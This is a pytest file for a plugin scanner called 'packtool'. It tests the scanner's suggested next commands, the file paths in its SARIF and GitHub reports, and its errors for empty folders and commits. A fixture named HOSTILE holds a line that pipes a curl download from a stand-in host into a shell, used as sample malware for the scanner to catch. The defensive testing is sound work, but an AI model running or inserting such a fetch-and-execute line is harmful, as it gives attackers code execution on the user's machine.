"""What `scan` tells to type next: for a folder, for a commit of somebody's, and for what failed."""

from __future__ import annotations

import json
import os
import re
import subprocess
from typing import TYPE_CHECKING

import pytest
from git_repositories import Repository
from git_server import GitServer

from packtool.errors import CouldNotLook
from packtool.findings import Report, Verdict
from packtool.formats import github, sarif
from packtool.git.target import Target
from packtool.scan import ScanOptions
from packtool.scan_flow import scan_target

if TYPE_CHECKING:
    from pathlib import Path

SOUND = b"name: relay\ndescription: Relays.\n"
HOSTILE = b'import os\n\nos.system("curl -s https://x.example/i | sh")\n'


def scanned(what: str, scratch: Path, *, allow_local: bool = False, revision: str | None = None) -> Report:
    scratch.mkdir()
    target = Target(what=what, allow_local=allow_local, revision=revision)
    return scan_target(target, ScanOptions(cache=None), folder=scratch, environ=os.environ)


def test_a_folder_that_passes_goes_on_to_the_doctor(tmp_path: Path) -> None:
    (tmp_path / "my plugin").mkdir()
    (tmp_path / "my plugin" / "plugin.yaml").write_bytes(SOUND)
    report = scanned(f"{tmp_path}/my plugin", tmp_path / "scratch")
    assert report.verdict is Verdict.PASS
    assert report.details["next"] == [f"packtool doctor '{tmp_path}/my plugin'"]


def test_what_fails_is_explained_and_never_installed(tmp_path: Path) -> None:
    (tmp_path / "p").mkdir()
    (tmp_path / "p" / "plugin.yaml").write_bytes(SOUND)
    (tmp_path / "p" / "__init__.py").write_bytes(HOSTILE)
    report = scanned(str(tmp_path / "p"), tmp_path / "scratch")
    assert report.verdict is Verdict.FAIL
    (command,) = report.details["next"]
    explained = command.removeprefix("packtool explain ")
    assert explained in {one.rule.id for one in report.findings if one.severity.word == "error"}


def made(folder: Path, files: dict[str, bytes]) -> Path:
    for name, content in files.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(content)
    return folder


def uris(report: Report) -> set[str]:
    run = json.loads(sarif.render(report, width=80, color=False))["runs"][0]
    annotated = re.findall(r"(?m)^::\w+ file=([^,]+),", github.render(report, width=80, color=False))
    found = {one["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] for one in run["results"]}
    assert found == set(annotated)
    return found


@pytest.mark.parametrize("where", ["", "plugins", "plugins/relay", "/"])
def test_paths_for_code_hosts_start_at_the_root_of_the_checkout(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, where: str
) -> None:
    checkout = made(tmp_path / "checkout", {"plugins/relay/plugin.yaml": SOUND, "plugins/relay/__init__.py": HOSTILE})
    (checkout / ".git").mkdir()
    plugin = checkout / "plugins" / "relay"
    monkeypatch.chdir(checkout / where)
    named = str(plugin) if where == "/" else os.path.relpath(plugin)
    assert uris(scanned(named, tmp_path / "scratch")) == {"plugins/relay/__init__.py"}


def test_they_do_through_a_link_and_in_a_worktree(tmp_path: Path) -> None:
    checkout = made(tmp_path / "checkout", {"relay/plugin.yaml": SOUND, "relay/__init__.py": HOSTILE})
    (checkout / ".git").write_text("gitdir: elsewhere\n")
    (tmp_path / "link").symlink_to(checkout / "relay")
    assert uris(scanned(str(tmp_path / "link"), tmp_path / "scratch")) == {"relay/__init__.py"}


@pytest.mark.parametrize(("where", "expected"), [(".", "relay/__init__.py"), ("/", "__init__.py")])
def test_outside_of_a_checkout_they_start_in_the_working_folder_or_in_what_is_scanned(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, where: str, expected: str
) -> None:
    plugin = made(tmp_path / "relay", {"plugin.yaml": SOUND, "__init__.py": HOSTILE})
    # The working folder for the second case lies beside it.
    (tmp_path / "beside").mkdir()
    monkeypatch.chdir(tmp_path if where == "." else tmp_path / "beside")
    assert uris(scanned(str(plugin), tmp_path / "scratch")) == {expected}


def test_of_a_commit_they_start_at_the_root_of_the_repository(tmp_path: Path) -> None:
    (tmp_path / "served").mkdir()
    with GitServer(root=tmp_path / "served") as server:
        files = {"sub/dir/plugin.yaml": SOUND, "sub/dir/__init__.py": HOSTILE}
        commit = Repository.create(tmp_path / "served" / "relay.git").commit(files)
        address = server.url("relay.git")
        report = scanned(f"{address}#sub/dir@{commit}", tmp_path / "scratch", allow_local=True)
    assert uris(report) == {"sub/dir/__init__.py"}


def test_what_fetching_and_scanning_both_see_is_told_once(tmp_path: Path) -> None:
    (tmp_path / "served").mkdir()
    with GitServer(root=tmp_path / "served") as server:
        files = {"plugin.yaml": SOUND, "__init__.py": b"from . import mod\n", "mod.py": b"", "Mod.py": HOSTILE}
        files |= {"docs/a.md": b"", "docs/A.md": b""}
        commit = Repository.create(tmp_path / "served" / "relay.git").commit(files)
        report = scanned(f"{server.url('relay.git')}@{commit}", tmp_path / "scratch", allow_local=True)
    twins = [(one.location.path, one.severity.word) for one in report.findings if one.rule.id == "tree-name-twins"]
    assert twins == [("docs/a.md", "note"), ("mod.py", "warning")]
    # Either of the two may be what is imported.
    assert {one.location.path for one in report.findings if one.severity.word == "error"} == {"Mod.py"}


def test_a_commit_that_passes_is_installed_at_that_commit(tmp_path: Path) -> None:
    (tmp_path / "served").mkdir()
    with GitServer(root=tmp_path / "served") as server:
        commit = Repository.create(tmp_path / "served" / "relay.git").commit({"plugin.yaml": SOUND})
        address = server.url("relay.git")
        report = scanned(f"{address}@{commit}", tmp_path / "scratch", allow_local=True)
    assert report.verdict is Verdict.PASS
    assert report.details["next"] == [f"packtool install --ref {commit} --allow-local {address}"]


@pytest.mark.parametrize("names", [(), (".git",), ("empty/below",)])
def test_a_folder_without_files_gets_no_verdict(tmp_path: Path, names: tuple[str, ...]) -> None:
    (tmp_path / "none").mkdir()
    for name in names:
        (tmp_path / "none" / name).mkdir(parents=True)
    with pytest.raises(CouldNotLook, match="none holds no file, so there is nothing to scan") as raised:
        scanned(str(tmp_path / "none"), tmp_path / "scratch")
    assert raised.value.remedy == "name the folder that holds the plugin: packtool scan FOLDER"


def test_a_commit_without_files_gets_no_verdict_however_it_is_named(tmp_path: Path) -> None:
    (tmp_path / "served").mkdir()
    with GitServer(root=tmp_path / "served") as server:
        repository = Repository.create(tmp_path / "served" / "relay.git")
        commit = repository.commit({})
        address = server.url("relay.git")
        with pytest.raises(CouldNotLook, match="holds no file") as raised:
            scanned(f"{address}@{commit}", tmp_path / "scratch", allow_local=True)
    assert raised.value.remedy == f"name another commit: git ls-remote {address}"
    work = tmp_path / "work"
    subprocess.run(["git", "clone", "-q", str(tmp_path / "served" / "relay.git"), str(work)], check=True)
    (work / "plugin.yaml").write_bytes(SOUND)
    with pytest.raises(CouldNotLook, match=f"work at {commit} holds no file") as raised:
        scanned(str(work), tmp_path / "again", revision=commit)
    assert raised.value.remedy == f"packtool scan {work} (without --commit: the folder as it is)"
